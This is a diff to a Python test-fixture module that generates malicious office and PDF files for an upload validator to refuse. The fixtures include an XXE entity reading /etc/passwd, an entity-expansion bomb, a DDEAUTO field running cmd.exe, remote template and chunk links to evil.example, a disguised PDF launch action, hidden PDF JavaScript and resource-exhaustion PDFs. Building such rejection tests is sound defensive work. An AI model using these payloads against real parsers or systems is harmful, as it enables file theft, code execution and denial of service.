@@ -3,6 +3,7 @@
 import io
 import struct
 import zipfile
+import zlib
 from collections.abc import Callable, Mapping
 
 CONTENT_TYPES = (
@@ -142,6 +143,115 @@ def linking() -> bytes:
     return place.getvalue()
 
 
+def nested_forms(count: int) -> bytes:
+    """Return a PDF document whose one page draws forms that each draw the next ten times."""
+    draws = b"/F Do " * 10
+    form = (
+        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length %d"
+        b" /Resources << /XObject << /F %d 0 R >> >> >>\nstream\n%s\nendstream"
+    )
+    page = (
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R"
+        b" /Resources << /XObject << /F 5 0 R >> >> >>"
+    )
+    last = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Length 4 >>\nstream\nq Q \nendstream"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        page,
+        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(draws), draws),
+        *(form % (len(draws), number + 1, draws) for number in range(5, 5 + count)),
+        last,
+    ]
+    return _numbered(objects)
+
+
+def busy_pages(count: int) -> bytes:
+    """Return a small PDF document of pages that all do the same long nothing."""
+    packed = zlib.compress(b"q Q " * 2_000_000)
+    kids = b" ".join(b"%d 0 R" % (number + 4) for number in range(count))
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R >>"
+    return _numbered(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
+            b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed), packed),
+            *[page] * count,
+        ]
+    )
+
+
+def in_object_stream(action: bytes) -> bytes:
+    """Return a PDF document whose catalogue stands in a packed object stream."""
+    catalogue = b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>"
+    packed = zlib.compress(b"1 0 " + catalogue)
+    out = b"%PDF-1.7\n"
+    offsets = {}
+    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
+    bodies = {
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
+        4: head % len(packed) + packed + b"\nendstream",
+    }
+    for number, body in bodies.items():
+        offsets[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    start = len(out)
+    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 4, 0)]
+    rows += [struct.pack(">BIH", 1, offsets[number], 0) for number in (2, 3, 4)]
+    rows.append(struct.pack(">BIH", 1, start, 0))
+    table = b"".join(rows)
+    return out + (
+        b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
+        % len(table)
+        + table
+        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
+    )
+
+
+def _numbered(objects: list[bytes]) -> bytes:
+    out, offsets = b"%PDF-1.7\n", []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    start = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
+    return out + trailer % (len(objects) + 1, start)
+
+
+def container(*names: str) -> bytes:
+    """Return a file in the old container of office programs, with entries of these names."""
+    entries = b"".join((name + "\0").encode("utf-16-le").ljust(128, b"\0") for name in names)
+    return OLE.ljust(512, b"\0") + entries.ljust(4096, b"\0")
+
+
+def two_main_parts() -> bytes:
+    """Return a container that is a document and a workbook at once."""
+    return archive(
+        {
+            "[Content_Types].xml": CONTENT_TYPES.format(
+                part="word/document.xml",
+                kind=WORD,
+                more=f'<Override PartName="/xl/workbook.xml" ContentType="{SHEETS}"/>',
+            ),
+            "_rels/.rels": RELS.format(part="word/document.xml"),
+            "word/document.xml": f'<w:document xmlns:w="{W}"/>',
+            "xl/workbook.xml": f'<workbook xmlns="{S}"/>',
+        }
+    )
+
+
+def encrypted_entries() -> bytes:
+    """Return a container whose entries say that they need a password."""
+    data = bytearray(docx())
+    for sign, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
+        for place in (i for i in range(len(data)) if data[i : i + 4] == sign):
+            data[place + offset] |= 1
+    return bytes(data)
+
+
 DOCTYPE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
 LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
@@ -181,8 +291,34 @@ REFUSED: Mapping[str, Callable[[], bytes]] = {
     "dde.docx": lambda: docx(
         "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
     ),
-    "old-word.doc": lambda: OLE + bytes(4096),
-    "old-word-renamed.docx": lambda: OLE + bytes(4096),
+    "old-word.doc": lambda: container("WordDocument"),
+    "old-word-renamed.docx": lambda: container("WordDocument"),
+    "old-container.dat": lambda: OLE + bytes(4096),
+    "password.xlsx": lambda: container("EncryptionInfo", "EncryptedPackage"),
+    "password-entries.docx": encrypted_entries,
+    "two-main-parts.docx": two_main_parts,
+    "only-a-far-cell.xlsx": lambda: xlsx(f'<row r="9999999">{cell("A9999999", 1)}</row>'),
+    "impossible-cell.xlsx": lambda: xlsx(f'<row r="1">{cell("A0", 1)}</row>'),
+    "many-columns.csv": lambda: (b"a;" * 600 + b"\n") * 3,
+    "utf16-entity.docx": lambda: docx(more={"word/a.xml": f"{DOCTYPE}<a/>".encode("utf-16")}),
+    "workbook-inside.docx": lambda: docx(more={"word/embeddings/a.xlsx": b"PK"}),
+    "another-workbook.xlsx": lambda: docx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}),
+    "other-document.docx": lambda: docx(
+        more={"word/_rels/document.xml.rels": relations("https://evil.example/a", "aFChunk")}
+    ),
+    "network-template.docx": lambda: docx(
+        more={
+            "word/_rels/document.xml.rels": relations(
+                "file:///\\\\evil.example\\t.dotm", "attachedTemplate"
+            )
+        }
+    ),
+    "script-in-object-stream.pdf": lambda: in_object_stream(b"<< /S /JavaScript /JS (a) >>"),
+    "launch-on-page.pdf": lambda: pdf("/AA << /WC << /S /#4caunch /F (cmd.exe) >> >>"),
+    "forms-of-forms.pdf": lambda: nested_forms(12),
+    "junk-before.pdf": lambda: b"\x00\x01junk" + pdf(""),
+    "page.html": lambda: b"<!DOCTYPE html><html><body>hello</body></html>",
+    "plan.xer": lambda: b"ERMHDR\t8.2\t2013-09-18\tProject\r\n",
     "polyglot.pdf": lambda: b"%PDF-1.4\n%%EOF\n" + docx(),
     "plain-archive.docx": lambda: archive({"notes.txt": "hello"}),
     "truncated.docx": lambda: docx()[:-30],
